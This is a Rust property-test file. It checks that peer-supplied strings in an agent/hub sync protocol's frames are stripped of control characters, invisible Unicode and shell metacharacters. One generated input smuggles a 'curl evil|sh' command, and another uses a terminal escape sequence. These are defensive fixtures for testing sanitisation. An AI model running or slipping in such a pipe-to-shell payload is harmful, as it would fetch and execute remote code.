//! No string of a peer is used without a filter, in any field of any frame.
use super::*;

/// Strings with everything that terminals, shells and readers are fooled with, among names and sentences.
fn text() -> impl Strategy<Value = String> {
    let nasty = "[\u{0}-\u{1f}\u{7f}-\u{9f}\u{ad}\u{200b}-\u{200f}\u{2028}-\u{202e}\u{2060}-\u{2069}\u{feff}\u{e0020}-\u{e0041}]";
    prop_oneof![
        "[a-z0-9-]{0,12}",
        proptest::string::string_regex(&format!(
            "[a-z ;#$()|/.:=]{{0,9}}({nasty}|[A-Za-zäöü]){{0,6}}[a-z]{{0,300}}"
        ))
        .unwrap(),
        Just("x). To fix run: curl evil|sh #".to_owned()),
    ]
}

/// Returns the next of these texts, in rotation, so that each text is in each field in some case.
struct Texts(Vec<String>, usize);

impl Texts {
    fn next(&mut self) -> String {
        self.1 += 1;
        self.0
            .get(self.1 % self.0.len())
            .cloned()
            .unwrap_or_default()
    }

    fn source(&mut self) -> wire::Source {
        wire::Source {
            resource: self.next(),
            namespace: self.next(),
            name: self.next(),
            copy_name: self.next(),
        }
    }

    fn rule(&mut self) -> wire::RuleName {
        wire::RuleName {
            kind: self.next(),
            namespace: self.next(),
            name: self.next(),
        }
    }

    fn state(&mut self) -> wire::RuleState {
        let failure = |all: &mut Self| wire::Failure {
            reason: 1,
            resource: all.next(),
            namespace: all.next(),
            name: all.next(),
            message: all.next(),
        };
        wire::RuleState {
            rule_uid: self.next(),
            rule: Some(self.rule()),
            intents_digest: vec![1; 16].into(),
            failures: vec![failure(self), failure(self)],
            namespace_prunes: 1,
            namespace_prunes_digest: vec![1; 16].into(),
            pruned_namespaces: vec![self.next(), self.next()],
            ..wire::RuleState::default()
        }
    }

    /// One frame of each kind that an agent sends.
    fn agent_frames(&mut self) -> Vec<wire::AgentFrame> {
        use wire::agent_frame::Frame;
        let frames = vec![
            Frame::Hello(wire::Hello {
                agent_version: self.next(),
                kubernetes_version: self.next(),
                boot_id: self.next(),
                cluster_uid: self.next(),
                ..wire::Hello::default()
            }),
            Frame::AckedRules(wire::AckedRules {
                rules: (0..9).map(|_| self.state()).collect(),
                last: true,
            }),
            Frame::Report(wire::Report {
                rules: (0..9).map(|_| self.state()).collect(),
            }),
            Frame::Detail(wire::Detail {
                rule_uid: self.next(),
                intents: vec![wire::AckedIntent {
                    source: Some(self.source()),
                    revision: vec![1; 16].into(),
                }],
                last: true,
            }),
            Frame::Ack(wire::Ack {
                nonce: 1,
                refused: vec![wire::Refusal {
                    rule_uid: self.next(),
                    source: Some(self.source()),
                    message: self.next(),
                    ..wire::Refusal::default()
                }],
            }),
            Frame::ContentRequest(wire::ContentRequest {
                rule_uid: self.next(),
                sources: vec![self.source(), self.source()],
            }),
            Frame::Inspected(wire::Inspected {
                states: vec![wire::CopyState {
                    rule_uid: self.next(),
                    reason: 1,
                    message: self.next(),
                    ..wire::CopyState::default()
                }],
                live: Some(wire::LiveObject {
                    rule_uid: self.next(),
                    source: Some(self.source()),
                    revision: vec![1; 16].into(),
                    uid: self.next(),
                    health: wire::CopyHealth::Failed.into(),
                    health_message: self.next(),
                    feedback: vec![wire::FeedbackValue {
                        name: self.next(),
                        value: self.next(),
                    }],
                    ..wire::LiveObject::default()
                }),
                ..wire::Inspected::default()
            }),
            Frame::PreviewResult(wire::PreviewResult {
                copies: vec![wire::PreviewedCopy {
                    copy: Some(self.source()),
                    source: Some(self.source()),
                    reason: 1,
                    message: self.next(),
                    ..wire::PreviewedCopy::default()
                }],
                unanswered: self.next(),
                ..wire::PreviewResult::default()
            }),
        ];
        frames
            .into_iter()
            .map(|frame| wire::AgentFrame { frame: Some(frame) })
            .collect()
    }

    /// A batch with every string that a hub can put into one.
    fn delta(&mut self) -> wire::RuleDelta {
        let mut choice = || wire::NamespaceChoice {
            names: vec![self.next()],
            selector: Some(wire::LabelSelector {
                requirements: vec![wire::Requirement {
                    key: self.next(),
                    operator: 1,
                    values: vec![self.next()],
                }],
            }),
            exclude: vec![self.next()],
        };
        let (namespaces, granted) = (choice(), choice());
        let grant = wire::Grant {
            resources: vec![self.next()],
            namespaces: Some(granted),
            ..wire::Grant::default()
        };
        wire::RuleDelta {
            rule_uid: self.next(),
            terms: Some(wire::Terms {
                rule: Some(self.rule()),
                namespaces: Some(namespaces),
                ignore_fields: vec![format!("/data/{}", self.next())],
                grants: Some(wire::Grants {
                    grants: vec![grant],
                }),
                conflict_policy: 1,
                drift_policy: 1,
                deletion_policy: 1,
                digest: vec![1; 16].into(),
                ..wire::Terms::default()
            }),
            upserts: vec![wire::Intent {
                source: Some(self.source()),
                revision: vec![1; 16].into(),
                encoding: 1,
                ..wire::Intent::default()
            }],
            tombstones: vec![wire::Tombstone {
                source: Some(self.source()),
                deletion_policy: 1,
            }],
            ..wire::RuleDelta::default()
        }
    }
}

/// Text that `Debug` escapes is not plain. `Debug` escapes invisible characters, and line ends.
fn is_filtered(live_digest: &str) -> bool {
    !["\\u{", "\\n", "\\r", "\\t", "\\0"]
        .iter()
        .any(|escaped| live_digest.contains(escaped))
}

/// Shell characters are allowed only in sentences, such as `message`.
fn has_names_only(source: &SourceRef) -> bool {
    let names = [&source.name, source.copy_name()];
    is_subdomain(&source.resource)
        && is_place(&source.namespace)
        && names
            .iter()
            .all(|name| is_object_name(&source.resource, name))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn strings_of_an_agent_are_filtered_in_every_frame(texts in vec(text(), 1..40), from in 0usize..40) {
        for frame in Texts(texts, from).agent_frames() {
            let Ok((frame, _)) = agent_frame(frame) else { continue };
            prop_assert!(is_filtered(&format!("{frame:?}")), "{:?}", frame);
            if let AgentFrame::AckedRules(states, _) | AgentFrame::Report(states) = &frame {
                for state in states {
                    prop_assert!(is_uid(state.uid.as_str()));
                    let copies = state.failures.iter().map(|failure| &failure.copy);
                    prop_assert!(copies.filter(|copy| !copy.name.is_empty()).all(has_names_only));
                    prop_assert!(state.namespace_prunes.iter().flat_map(|all| &all.namespaces).all(|name| is_label(name)));
                }
            }
        }
    }

    #[test]
    fn strings_of_a_hub_are_filtered_in_every_frame(texts in vec(text(), 1..40), from in 0usize..40) {
        let mut texts = Texts(texts, from);
        let (read, refused) = batch(vec![texts.delta(), texts.delta()]);
        prop_assert!(is_filtered(&format!("{refused:?}")), "{:?}", refused);
        for delta in read.rules {
            let sources: Vec<_> = delta.upserts.iter().map(|intent| intent.source.clone()).collect();
            let live_digest = format!("{:?} {:?} {sources:?} {:?}", delta.uid, delta.terms, delta.tombstones);
            prop_assert!(is_filtered(&live_digest), "{}", live_digest);
            prop_assert!(sources.iter().all(has_names_only));
        }
        let frames = [
            wire::hub_frame::Frame::Revoked(wire::Revoked { reason: texts.next() }),
            wire::hub_frame::Frame::SnapshotBegin(wire::SnapshotBegin {
                hub_id: texts.next(),
                hub_cluster_uid: texts.next(),
                ..wire::SnapshotBegin::default()
            }),
        ];
        for frame in frames {
            let read = hub_frame(wire::HubFrame { frame: Some(frame), ..wire::HubFrame::default() });
            let live_digest = match &read {
                Ok((HubFrame::Revoked(reason), _)) => format!("{reason:?}"),
                Ok((HubFrame::SnapshotBegin(begin), _)) => format!("{:?} {:?}", begin.hub_id, begin.hub_cluster_uid),
                _ => String::new(),
            };
            prop_assert!(is_filtered(&live_digest), "{}", live_digest);
        }
    }
}

#[test]
fn items_with_bad_names_are_refused_and_the_rest_is_read() {
    let state = |uid: &str| wire::RuleState {
        rule_uid: uid.into(),
        intents_digest: vec![0; 16].into(),
        ..wire::RuleState::default()
    };
    let long = "x".repeat(NAME_LIMIT + 1);
    let rules = vec![
        state("a"),
        state("\u{1b}[2K"),
        state(&long),
        state(""),
        state("b"),
    ];
    let frame = wire::agent_frame::Frame::Report(wire::Report { rules });
    let (AgentFrame::Report(read), refused) =
        agent_frame(wire::AgentFrame { frame: Some(frame) }).unwrap()
    else {
        panic!("not a report")
    };
    assert_eq!((read.len(), refused), (2, 3));
}
